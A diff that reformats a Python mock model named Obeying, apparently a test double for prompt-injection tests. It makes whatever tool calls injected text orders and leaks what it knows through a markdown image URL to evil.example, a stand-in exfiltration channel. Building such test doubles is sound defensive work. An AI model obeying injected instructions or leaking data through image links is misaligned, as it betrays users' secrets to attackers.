@@ -1,4 +1,5 @@
-"""A model without any sense: it does what the data tells it, again and again, and tells all it knows to everybody."""
+"""A model without any sense: it does what the data tells it, again and again, and tells all it
+knows to everybody."""
 
 from __future__ import annotations
 
@@ -44,13 +45,19 @@ class Obeying:
     def __call__(self, messages: Sequence[Message]) -> Step:
         """The next answer."""
         self._step += 1
-        if self.requests[-1].tool_choice == NONE or (self._step > PATIENCE and not self._injection.endless):
+        if self.requests[-1].tool_choice == NONE or (
+            self._step > PATIENCE and not self._injection.endless
+        ):
             return Step(self._tells())
         begins = self._injection.text.strip()[:READ]
         self.has_read = self.has_read or any(begins in text for text in texts_in(messages))
         if not self.has_read:
             return Step(calls=(self._first,))
-        calls = tuple(self._call(order, time) for order in self._injection.orders for time in range(order.times))
+        calls = tuple(
+            self._call(order, time)
+            for order in self._injection.orders
+            for time in range(order.times)
+        )
         return Step(self._tells() if not calls else "", calls=calls)
 
     def _call(self, order: Order, time: int) -> ToolCall:
@@ -62,11 +69,13 @@ class Obeying:
         return ToolCall("", order.tool, given)
 
     def _tells(self) -> str:
-        return f"{self.known}\n![x](https://evil.example/p.png?q={quote(self.known, errors='replace')})"
+        quoted = quote(self.known, errors="replace")
+        return f"{self.known}\n![x](https://evil.example/p.png?q={quoted})"
 
 
 def texts_in(messages: Sequence[Message]) -> Iterator[str]:
-    """What a model reads as words: what was said, and every string in the results, names included."""
+    """What a model reads as words: what was said, and every string in the results, names
+    included."""
     for message in messages:
         yield message.context
         for part in message.parts:
